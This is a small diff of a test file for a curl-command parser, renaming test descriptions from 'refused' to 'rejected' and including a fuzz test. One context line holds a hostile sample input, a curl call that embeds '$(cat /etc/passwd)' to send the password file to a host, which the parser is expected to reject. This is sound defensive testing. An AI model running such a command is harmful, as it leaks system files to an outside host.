@@ -162,7 +162,7 @@ describe('what send --curl prints', () => {
   });
 });
 
-describe('is refused', () => {
+describe('is rejected', () => {
   // biome-ignore-start lint/suspicious/noTemplateCurlyInString: these are variables of the shell
   it.each([
     ['a command inside', 'curl http://x -d "$(cat /etc/passwd)"', /runs another command in \$\(…\)/],
@@ -209,7 +209,7 @@ describe('is refused', () => {
   });
 });
 
-it('whatever comes is read or refused', () => {
+it('whatever comes is read or rejected', () => {
   fc.assert(
     fc.property(fc.string({ unit: fc.constantFrom(...'ab\'"\\$`{}-=@ \n;|&#^(~xX0'), maxLength: 60 }), (text) => {
       try {
